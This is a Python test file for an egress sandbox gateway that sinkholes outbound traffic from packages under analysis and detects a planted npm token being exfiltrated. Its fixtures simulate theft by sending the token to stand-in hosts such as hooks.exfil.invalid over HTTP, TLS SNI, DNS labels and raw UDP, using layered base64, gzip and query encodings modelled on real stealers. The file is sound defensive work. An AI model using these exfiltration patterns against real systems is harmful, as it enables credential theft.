"""
Tests for L{fangs.runner.gateway} and its parts (L{fangs.runner.sniff},
L{fangs.runner.sinkhole}, L{fangs.runner.dnsproxy}, L{fangs.runner.conntrack}):
the parsers, and one run's gateway driven through in-memory transports and a
L{Clock} (the real sockets, DNAT and Docker are in L{tests.integration.runner.test_egress}).
"""

from __future__ import annotations

import base64
import hashlib
import ssl
import struct
from typing import Any, Dict, List, Tuple

from twisted.internet.defer import Deferred, succeed
from twisted.internet.task import Clock
from twisted.internet.testing import StringTransport
from twisted.names import dns
from twisted.trial.unittest import SynchronousTestCase

from fangs.runner import canary, dnsproxy
from fangs.runner import conntrack as C
from fangs.runner import gateway as G
from fangs.runner import sinkhole as K
from fangs.runner import sniff as S
from fangs.wire import EventType, RunID

TOKEN = "npm_Zq8vY3kP0sLw2Xr7Tn5Bd1Hf6Jm4Gc9Ae0Qu"


def clientHello(sni: str = "hooks.exfil.invalid", alpn: Tuple[str, ...] = ("h2", "http/1.1")) -> bytes:
    """
    A real ClientHello, made by Python's TLS stack into a memory BIO.
    """
    ctx = ssl.create_default_context()
    if alpn:
        ctx.set_alpn_protocols(list(alpn))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class ParserTests(SynchronousTestCase):
    def test_clientHello(self) -> None:
        hello = S.parseClientHello(clientHello("secure.exfil.invalid"))
        self.assertEqual(hello, S.ClientHello("secure.exfil.invalid", ("h2", "http/1.1")))

    def test_clientHelloWithoutALPN(self) -> None:
        self.assertEqual(S.parseClientHello(clientHello("a.invalid", ())).alpn, ())

    def test_clientHelloIncomplete(self) -> None:
        data = clientHello()
        for cut in (0, 1, 4, 5, 40, len(data) - 1):
            self.assertRaises(S.NeedMore, S.parseClientHello, data[:cut])

    def test_notTLS(self) -> None:
        self.assertRaises(S.NotThis, S.parseClientHello, b"GET / HTTP/1.1\r\n")
        self.assertRaises(S.NotThis, S.parseClientHello, b"\x16\x09\x00\x00\x05hello")

    def test_requestHead(self) -> None:
        head = S.parseRequestHead(b"POST /x?a=1 HTTP/1.1\r\nHost: hooks.example\r\nX-A: 1\r\nX-A: 2\r\n\r\nbody")
        self.assertEqual((head.method, head.host, head.path, head.length), ("POST", "hooks.example", "/x?a=1", 61))
        self.assertEqual(head.headers["x-a"], "1, 2")

    def test_requestHeadAbsoluteForm(self) -> None:
        head = S.parseRequestHead(b"GET http://h.invalid:8080/p HTTP/1.1\r\nHost: other\r\n\r\n")
        self.assertEqual((head.host, head.path), ("h.invalid:8080", "/p"))

    def test_requestHeadIncompleteOrNot(self) -> None:
        self.assertRaises(S.NeedMore, S.parseRequestHead, b"PO")
        self.assertRaises(S.NeedMore, S.parseRequestHead, b"POST / HTTP/1.1\r\nHost: x\r\n")
        self.assertRaises(S.NotThis, S.parseRequestHead, b"SSH-2.0-OpenSSH\r\n")
        self.assertRaises(S.NotThis, S.parseRequestHead, b"\x00\x01binary")
        self.assertRaises(S.NotThis, S.parseRequestHead, b"GET " + b"a" * 20000, 16384)

    def test_chunks(self) -> None:
        body = b"5\r\nhello\r\n6;ext=1\r\n world\r\n0\r\n\r\n"
        for step in (1, 2, 3, 7, len(body)):
            c = S.ChunkedBody()
            out, done = b"", False
            for i in range(0, len(body), step):
                part, done = c.feed(body[i:i + step])
                out += part
            self.assertEqual((out, done), (b"hello world", True))

    def test_allowedHosts(self) -> None:
        allowed = G.parseAllowedHosts(["Registry.npmjs.org", "npm.internal.example:4873"])
        self.assertEqual(allowed, {"registry.npmjs.org": frozenset({80, 443}),
                                   "npm.internal.example": frozenset({4873})})
        for bad in ["https://registry.npmjs.org", "a b", "x:99999", "", "[::1"]:
            self.assertRaises(G.PolicyError, G.parseAllowedHosts, [bad])
        self.assertEqual(G.parseAllowedHosts(["10.0.0.5:4873", "[::1]:8080", "fd00::5"]),
                         {"10.0.0.5": frozenset({4873}), "::1": frozenset({8080}), "fd00::5": frozenset({80, 443})})

    def test_splitHostPort(self) -> None:
        self.assertEqual(S.splitHostPort("a.invalid:8080", 80), ("a.invalid", 8080))
        self.assertEqual(S.splitHostPort("a.invalid", 80), ("a.invalid", 80))
        self.assertEqual(S.splitHostPort("[::1]:81", 80), ("::1", 81))


class FakeUpstreams:
    def __init__(self) -> None:
        self.calls: List[Tuple[str, int]] = []
        self.transports: List[StringTransport] = []

    def connect(self, host: str, port: int, protocol: Any, timeout: float) -> Deferred:
        self.calls.append((host, port))
        t = StringTransport()
        self.transports.append(t)
        protocol.makeConnection(t)
        return succeed(protocol)


class GatewayTestsMixin:
    mode = G.CONTAIN
    limits = G.Limits()
    baitKnown = True

    def setUp(self) -> None:
        self.clock = Clock()
        self.events: List[Tuple[int, Dict[str, Any]]] = []
        self.upstreams = FakeUpstreams()
        self.resolved: List[str] = []
        self.dest = ("172.30.0.1", 80)
        self.gw = G.RunGateway(
            self.clock, RunID(b"\x07" * 16), 4242, "172.30.0.1",
            G.GatewayPolicy(self.mode, G.parseAllowedHosts(["registry.npmjs.org"])),
            lambda t, p: self.events.append((t, p)), limits=self.limits,
            resolve=self.resolve, connect=self.upstreams.connect,
            origDst=lambda transport: self.dest, nowNs=lambda: 123,
            datagramDst=lambda local, peer: ("172.30.0.1", 9999) if peer[0] == "172.30.0.2" else None)
        if self.baitKnown:
            self.gw.setCanaries({"npm_token": TOKEN})

    def resolve(self, name: str) -> Deferred:
        self.resolved.append(name)
        return succeed(["198.51.100.7"])

    def connect(self, dest: Tuple[str, int] = ("172.30.0.1", 80)) -> Tuple[Any, StringTransport]:
        self.dest = dest
        proto = K.Connection(self.gw)
        t = StringTransport()
        proto.makeConnection(t)
        return proto, t

    def attempts(self) -> List[Dict[str, Any]]:
        return [p for t, p in self.events if t == EventType.EGRESS_ATTEMPT]

    def canaries(self) -> List[Dict[str, Any]]:
        return [p for t, p in self.events if t == EventType.CANARY_EXFILTRATED]


class SinkholeTests(GatewayTestsMixin, SynchronousTestCase):
    def test_httpPostRecordedAnsweredNotForwarded(self) -> None:
        body = ('{"t":"%s"}' % (base64.b64encode(TOKEN.encode()).decode(),)).encode()
        proto, t = self.connect(("172.30.0.1", 80))
        proto.dataReceived(b"POST /x HTTP/1.1\r\nHost: hooks.exfil.invalid\r\nContent-Length: %d\r\n\r\n" % (len(body),))
        self.assertEqual(t.value(), b"")  # waits for the body
        proto.dataReceived(body)
        self.assertEqual(t.value(), K.HTTP_OK)
        self.assertTrue(t.disconnecting)
        [e] = self.attempts()
        self.assertEqual({k: e[k] for k in ("Protocol", "Action", "Method", "Host", "Path", "DestName", "DestIP",
                                            "DestPort", "BodySize", "Canaries")},
                         {"Protocol": "http", "Action": "sinkholed", "Method": "POST", "Host": "hooks.exfil.invalid",
                          "Path": "/x", "DestName": "hooks.exfil.invalid", "DestIP": "172.30.0.1", "DestPort": 80,
                          "BodySize": len(body), "Canaries": ["npm_token"]})
        self.assertEqual(base64.b64decode(e["BodyB64"]), body)
        self.assertEqual(e["BodySHA256"], hashlib.sha256(body).hexdigest())
        self.assertEqual(e["Header"]["Type"], 12)
        self.assertEqual(e["Header"]["CgroupID"], 4242)
        self.assertEqual(e["Header"]["RunID"], [7] * 16)
        [c] = self.canaries()
        self.assertEqual((c["Bait"], c["Channel"], c["DestName"], c["Method"], c["Header"]["Type"]),
                         (["npm_token"], "egress", "hooks.exfil.invalid", "POST", 9))
        self.assertEqual(self.upstreams.calls, [])

    def test_chunkedBodyAndCapture(self) -> None:
        proto, t = self.connect()
        big = b"A" * (70 * 1024) + TOKEN.encode()
        proto.dataReceived(b"PUT /up HTTP/1.1\r\nHost: h.invalid\r\nTransfer-Encoding: chunked\r\n\r\n")
        proto.dataReceived(b"%x\r\n" % (len(big),) + big + b"\r\n")
        self.assertEqual(t.value(), b"")
        proto.dataReceived(b"0\r\n\r\n")
        self.assertEqual(t.value(), K.HTTP_OK)
        [e] = self.attempts()
        self.assertEqual(e["BodySize"], len(big))
        self.assertEqual(len(base64.b64decode(e["BodyB64"])), 64 * 1024)
        self.assertEqual(e["Canaries"], ["npm_token"])  # searched past the kept 64 KiB

    def test_tlsSinkholedWithAlert(self) -> None:
        proto, t = self.connect(("172.30.0.1", 443))
        hello = clientHello("secure.exfil.invalid")
        proto.dataReceived(hello[:30])
        self.assertEqual(self.attempts(), [])
        proto.dataReceived(hello[30:])
        self.assertEqual(t.value(), K.TLS_HANDSHAKE_FAILURE)
        [e] = self.attempts()
        self.assertEqual((e["Protocol"], e["Action"], e["SNI"], e["ALPN"], e["DestName"], e["DestPort"]),
                         ("tls", "sinkholed", "secure.exfil.invalid", ["h2", "http/1.1"], "secure.exfil.invalid", 443))
        self.assertEqual(base64.b64decode(e["BodyB64"]), hello)
        self.assertEqual(self.upstreams.calls, [])

    def test_baitInSNI(self) -> None:
        label = base64.b32encode(TOKEN.encode()).decode().rstrip("=").lower()
        proto, t = self.connect(("172.30.0.1", 443))
        proto.dataReceived(clientHello(label[:60] + "." + label[60:] + ".x.invalid"))
        self.assertEqual(self.attempts()[0]["Canaries"], ["npm_token"])

    def test_allowedSNIForwardedUntouched(self) -> None:
        proto, t = self.connect(("104.16.0.35", 443))
        hello = clientHello("registry.npmjs.org")
        proto.dataReceived(hello)
        self.assertEqual(self.upstreams.calls, [("registry.npmjs.org", 443)])
        [up] = self.upstreams.transports
        self.assertEqual(up.value(), hello)
        proto.dataReceived(b"more bytes")
        self.assertEqual(up.value(), hello + b"more bytes")
        proto.upstream.dataReceived(b"server hello")
        self.assertEqual(t.value(), b"server hello")
        [e] = self.attempts()
        self.assertEqual((e["Protocol"], e["Action"], e["DestName"], e["DestIP"]),
                         ("tls", "forwarded", "registry.npmjs.org", "104.16.0.35"))
        self.assertNotIn("BodyB64", e)

    def test_allowedNameWrongPortSinkholed(self) -> None:
        proto, t = self.connect(("104.16.0.35", 8443))
        proto.dataReceived(clientHello("registry.npmjs.org"))
        self.assertEqual(self.upstreams.calls, [])
        self.assertEqual(self.attempts()[0]["Action"], "sinkholed")

    def test_rawTCPRecordedWhenIdle(self) -> None:
        proto, t = self.connect(("172.30.0.1", 4444))
        proto.dataReceived(b"\x00\x01raw " + TOKEN.encode())
        self.assertEqual(self.attempts(), [])
        self.clock.advance(self.gw.limits.idleTimeout)
        [e] = self.attempts()
        self.assertEqual((e["Protocol"], e["Action"], e["DestPort"], e["Canaries"]), ("tcp", "sinkholed", 4444, ["npm_token"]))
        self.assertEqual(t.value(), b"")

    def test_connectOnlyRecordedOnClose(self) -> None:
        proto, t = self.connect(("172.30.0.9", 22))
        proto.connectionLost(None)
        [e] = self.attempts()
        self.assertEqual((e["Protocol"], e["Action"], e["DestIP"], e["BodySize"]), ("tcp", "sinkholed", "172.30.0.9", 0))


class CanaryTimingTests(GatewayTestsMixin, SynchronousTestCase):
    baitKnown = False

    def test_eventsWaitForTheBait(self) -> None:
        proto, t = self.connect()
        body = TOKEN.encode()
        proto.dataReceived(b"POST / HTTP/1.1\r\nHost: h.invalid\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        self.assertEqual(t.value(), K.HTTP_OK)  # answered at once
        self.assertEqual(self.events, [])
        self.gw.setCanaries({"npm_token": TOKEN})
        self.assertEqual([t for t, _ in self.events], [12, 9])

    def test_closeWithoutBaitStillEmits(self) -> None:
        proto, t = self.connect()
        proto.connectionLost(None)
        self.successResultOf(Deferred.fromCoroutine(self.gw.close()))
        self.assertEqual([t for t, _ in self.events], [12])
        self.assertEqual(self.attempts()[0]["Canaries"], [])


class RegistryOnlyTests(GatewayTestsMixin, SynchronousTestCase):
    mode = G.REGISTRY_ONLY

    def test_httpRefused(self) -> None:
        proto, t = self.connect()
        proto.dataReceived(b"POST /x HTTP/1.1\r\nHost: hooks.exfil.invalid\r\nContent-Length: 9\r\n\r\n")
        self.assertEqual(t.value(), b"")
        self.assertTrue(t.disconnected or t.disconnecting)
        [e] = self.attempts()
        self.assertEqual((e["Action"], e["Method"], e["Host"]), ("refused", "POST", "hooks.exfil.invalid"))

    def test_dnsRefused(self) -> None:
        answer = self.ask("exfil.invalid")
        self.assertEqual((answer.rCode, answer.answers), (dns.ENAME, []))
        self.assertEqual(self.attempts()[0]["Action"], "refused")

    def test_registryStillForwarded(self) -> None:
        proto, t = self.connect(("104.16.0.35", 443))
        proto.dataReceived(clientHello("registry.npmjs.org"))
        self.assertEqual(self.upstreams.calls, [("registry.npmjs.org", 443)])

    def ask(self, name: str, qtype: int = dns.A) -> dns.Message:
        q = dns.Message(id=9, recDes=1)
        q.queries = [dns.Query(name, qtype, dns.IN)]
        out = self.successResultOf(Deferred.fromCoroutine(self.gw.answerDNS(q.toStr())))
        answer = dns.Message()
        answer.fromStr(out)
        return answer


class DNSTests(GatewayTestsMixin, SynchronousTestCase):
    ask = RegistryOnlyTests.ask

    def test_registryResolvedTruly(self) -> None:
        answer = self.ask("Registry.npmjs.org.")
        self.assertEqual([a.payload.dottedQuad() for a in answer.answers], ["198.51.100.7"])
        self.assertEqual(self.resolved, ["registry.npmjs.org"])
        self.assertEqual(self.attempts()[0]["Action"], "forwarded")

    def test_otherNamesSinkholed(self) -> None:
        answer = self.ask("exfil.invalid")
        self.assertEqual((answer.id, answer.rCode), (9, dns.OK))
        self.assertEqual([a.payload.dottedQuad() for a in answer.answers], ["172.30.0.1"])
        self.assertEqual(self.ask("exfil.invalid", dns.AAAA).answers, [])
        self.assertEqual(self.resolved, [])
        e = self.attempts()
        self.assertEqual([(x["Protocol"], x["Action"], x["DestName"], x["QType"]) for x in e],
                         [("dns", "sinkholed", "exfil.invalid", "A"), ("dns", "sinkholed", "exfil.invalid", "AAAA")])

    def test_baitInLabels(self) -> None:
        hexed = TOKEN.encode().hex()
        self.ask("%s.%s.t.exfil.invalid" % (hexed[:40], hexed[40:]))
        self.assertEqual(self.attempts()[0]["Canaries"], ["npm_token"])
        self.assertEqual(self.canaries()[0]["Channel"], "egress")

    def test_garbageIsADatagram(self) -> None:
        out = self.successResultOf(Deferred.fromCoroutine(self.gw.answerDNS(b"\x01garbage " + TOKEN.encode())))
        self.assertIsNone(out)
        [e] = self.attempts()
        self.assertEqual((e["Protocol"], e["DestPort"], e["Canaries"]), ("udp", 53, ["npm_token"]))

    def test_udpSink(self) -> None:
        K.UDPSink(self.gw).datagramReceived(b"beacon " + TOKEN.encode(), ("172.30.0.2", 5555))
        K.UDPSink(self.gw).datagramReceived(b"untracked", ("172.30.0.3", 5555))
        [e, f] = self.attempts()
        self.assertEqual((e["Protocol"], e["Action"], e["Canaries"], e["DestIP"], e["DestPort"]),
                         ("udp", "sinkholed", ["npm_token"], "172.30.0.1", 9999))
        self.assertEqual((f["DestIP"], f["DestPort"]), ("", 0))

    def test_netlinkAttributes(self) -> None:
        blob = C._nla(1, b"abc") + C._nla(2 | 0x8000, C._nla(3, b"\x00\x35"))
        parsed = C._nlaParse(blob)
        self.assertEqual(parsed[1], b"abc")
        self.assertEqual(C._nlaParse(parsed[2]), {3: b"\x00\x35"})
        self.assertIsNone(C.conntrackOriginal(("127.0.0.1", 1), ("127.0.0.1", 2)))  # not tracked

    def test_dnsOverTCP(self) -> None:
        q = dns.Message(id=3)
        q.queries = [dns.Query("tcp.exfil.invalid", dns.A, dns.IN)]
        raw = q.toStr()
        p = dnsproxy.DNSTCP(self.gw)
        t = StringTransport()
        p.makeConnection(t)
        p.dataReceived(struct.pack("!H", len(raw)) + raw)
        out = t.value()
        answer = dns.Message()
        answer.fromStr(out[2:])
        self.assertEqual([a.payload.dottedQuad() for a in answer.answers], ["172.30.0.1"])
        p.connectionLost(None)


class LimitTests(GatewayTestsMixin, SynchronousTestCase):
    limits = G.Limits(maxConnections=5, maxConcurrent=3, maxSinkBytes=200 * 1024, maxConnectionBytes=100 * 1024,
                      maxDNSQueries=3, maxEvents=50, peekTimeout=5, idleTimeout=4, connectionTimeout=20)

    def summary(self) -> Dict[str, Any]:
        self.successResultOf(Deferred.fromCoroutine(self.gw.close()))
        [s] = [e for e in self.attempts() if e["Action"] == "cut" and "Stats" in e]
        return s

    def test_connectionFlood(self) -> None:
        conns = [self.connect() for _ in range(10)]
        aborted = [t for p, t in conns if t.disconnected or t.disconnecting]
        self.assertEqual(len(aborted), 7)  # 3 at once
        for p, t in conns[:3]:
            p.connectionLost(None)
        more = [self.connect() for _ in range(4)]
        self.assertEqual(sum(1 for p, t in more if not (t.disconnected or t.disconnecting)), 2)  # 5 in all
        s = self.summary()
        self.assertEqual(s["Cut"], {"concurrent": 7, "connections": 2})
        self.assertEqual(s["Stats"]["Connections"], 5)
        self.assertIn("concurrent=7", s["Reason"])

    def test_endlessBodyCut(self) -> None:
        proto, t = self.connect()
        proto.dataReceived(b"POST / HTTP/1.1\r\nHost: h.invalid\r\nContent-Length: 99999999\r\n\r\n")
        for _ in range(200):
            if t.disconnected:
                break
            proto.dataReceived(b"x" * 4096)
        self.assertTrue(t.disconnected)
        [e] = [e for e in self.attempts() if e.get("Cut")]
        self.assertEqual((e["Action"], e["Cut"], e["Method"]), ("cut", "bytes", "POST"))
        self.assertLessEqual(e["BodySize"], 100 * 1024)
        self.assertEqual(self.summary()["Cut"], {"bytes": 1})

    def test_runByteBudget(self) -> None:
        for _ in range(3):
            proto, t = self.connect()
            proto.dataReceived(b"\x00raw")
            for _ in range(30):
                if t.disconnected:
                    break
                proto.dataReceived(b"y" * 4096)
            proto.connectionLost(None)
        self.assertLessEqual(self.gw.stats.sinkBytes, 200 * 1024)
        self.assertIn("bytes", self.summary()["Cut"])

    def test_slowLoris(self) -> None:
        proto, t = self.connect()
        proto.dataReceived(b"POST / HTTP/1.1\r\nHost: slow.invalid\r\n")
        self.clock.advance(2)
        proto.dataReceived(b"X-A: 1\r\n")
        self.assertFalse(t.disconnected)
        self.clock.advance(3)
        self.assertTrue(t.disconnected)
        [e] = self.attempts()
        self.assertEqual((e["Action"], e["Cut"]), ("cut", "time"))

    def test_slowBody(self) -> None:
        proto, t = self.connect()
        proto.dataReceived(b"POST / HTTP/1.1\r\nHost: slow.invalid\r\nContent-Length: 1000\r\n\r\n")
        for _ in range(6):
            self.clock.advance(3.5)
            if t.disconnected:
                break
            proto.dataReceived(b"z")
        self.assertTrue(t.disconnected)  # the whole connection has 20 s
        self.assertEqual(self.attempts()[0]["Cut"], "time")

    def test_dnsFlood(self) -> None:
        for i in range(6):
            RegistryOnlyTests.ask(self, "n%d.exfil.invalid" % (i,))
        self.assertEqual(self.gw.stats.cut["dns"], 3)
        self.assertEqual(len(self.attempts()), 3)

    def test_eventLimit(self) -> None:
        self.gw.limits = G.Limits(maxEvents=2)
        for i in range(5):
            RegistryOnlyTests.ask(self, "n%d.exfil.invalid" % (i,))
        self.assertEqual(len(self.attempts()), 2)
        self.assertEqual(self.gw.stats.cut["events"], 3)

    def test_closeCutsLiveConnectionsAndRefusesNew(self) -> None:
        proto, t = self.connect()
        proto.dataReceived(b"GET /half HTTP/1.1\r\n")
        self.successResultOf(Deferred.fromCoroutine(self.gw.close()))
        self.assertTrue(t.disconnected)
        self.assertEqual(self.attempts()[0]["Action"], "sinkholed")
        p2, t2 = self.connect()
        self.assertTrue(t2.disconnected)

    def test_nothingCutNoSummary(self) -> None:
        proto, t = self.connect()
        proto.connectionLost(None)
        self.successResultOf(Deferred.fromCoroutine(self.gw.close()))
        self.assertEqual([e["Action"] for e in self.attempts()], ["sinkholed"])


class LayeredEncodingTests(GatewayTestsMixin, SynchronousTestCase):
    """
    Stealers wrap secrets in layers before sending them (Shai-Hulud 2.0
    base64-encodes several times; others gzip, or put them in a query).
    """

    def post(self, body: bytes, headers: bytes = b"") -> Dict[str, Any]:
        proto, t = self.connect()
        proto.dataReceived(b"POST /v1/traces HTTP/1.1\r\nHost: otel.exfil.invalid\r\n%sContent-Length: %d\r\n\r\n%s"
                           % (headers, len(body), body))
        return self.attempts()[-1]

    def test_tripleBase64InsideJSON(self) -> None:
        import json

        inner = json.dumps({"npmrc": "//registry.npmjs.org/:_authToken=" + TOKEN}).encode()
        for _ in range(3):
            inner = base64.b64encode(inner)
        body = json.dumps({"resourceSpans": [{"attributes": {"data": inner.decode()}}]}).encode()
        self.assertEqual(self.post(body)["Canaries"], ["npm_token"])

    def test_gzip(self) -> None:
        import gzip

        body = gzip.compress(b'{"env": {"NPM_TOKEN": "%s"}}' % (TOKEN.encode(),))
        self.assertEqual(self.post(body, b"Content-Encoding: gzip\r\n")["Canaries"], ["npm_token"])

    def test_percentEncodedBase64InQuery(self) -> None:
        from urllib.parse import quote

        q = quote(base64.b64encode(b"x" + TOKEN.encode() + b"??").decode(), safe="")
        proto, t = self.connect()
        proto.dataReceived(b"GET /c?d=%s HTTP/1.1\r\nHost: c.exfil.invalid\r\n\r\n" % (q.encode(),))
        self.assertEqual(self.attempts()[-1]["Canaries"], ["npm_token"])

    def test_noFalsePositive(self) -> None:
        body = base64.b64encode(b"nothing to see here, " * 200)
        self.assertEqual(self.post(body)["Canaries"], [])
        self.assertEqual(self.canaries(), [])

    def test_expansionBounded(self) -> None:
        blob = base64.b64encode(base64.b64encode(b"\0" * 300000))
        out = canary.expandForScan(blob, budget=64 * 1024)
        self.assertLessEqual(sum(len(b) for b in out), 64 * 1024)


class PlainHTTPRegistryTests(GatewayTestsMixin, SynchronousTestCase):
    def test_allowedHostHeaderForwarded(self) -> None:
        proto, t = self.connect(("104.16.0.35", 80))
        head = b"GET /is-number HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n"
        proto.dataReceived(head)
        self.assertEqual(self.upstreams.calls, [("registry.npmjs.org", 80)])
        self.assertEqual(self.upstreams.transports[0].value(), head)
        self.assertEqual(self.attempts()[0]["Action"], "forwarded")

    def test_allowedHostOnAnotherPortSinkholed(self) -> None:
        proto, t = self.connect(("104.16.0.35", 8080))
        proto.dataReceived(b"GET / HTTP/1.1\r\nHost: registry.npmjs.org:8080\r\n\r\n")
        self.assertEqual(self.upstreams.calls, [])
        self.assertEqual(t.value(), K.HTTP_OK)

    def test_upstreamFailureClosesQuietly(self) -> None:
        from twisted.internet.defer import fail

        self.gw.connect = lambda host, port, protocol, timeout: fail(ConnectionRefusedError("no"))
        proto, t = self.connect(("104.16.0.35", 443))
        proto.dataReceived(clientHello("registry.npmjs.org"))
        self.assertTrue(t.disconnected)


class RegistryByAddressTests(GatewayTestsMixin, SynchronousTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.gw.policy = G.GatewayPolicy(G.CONTAIN, G.parseAllowedHosts(["10.20.0.5:4873"]))

    def test_forwardedByOriginalDestination(self) -> None:
        proto, t = self.connect(("10.20.0.5", 4873))
        proto.dataReceived(b"GET /is-number HTTP/1.1\r\nHost: 10.20.0.5:4873\r\n\r\n")
        self.assertEqual(self.upstreams.calls, [("10.20.0.5", 4873)])

    def test_otherAddressOrPortSinkholed(self) -> None:
        for dest in (("10.20.0.6", 4873), ("10.20.0.5", 22)):
            proto, t = self.connect(dest)
            proto.dataReceived(b"GET / HTTP/1.1\r\nHost: other.invalid\r\n\r\n")
        self.assertEqual(self.upstreams.calls, [])
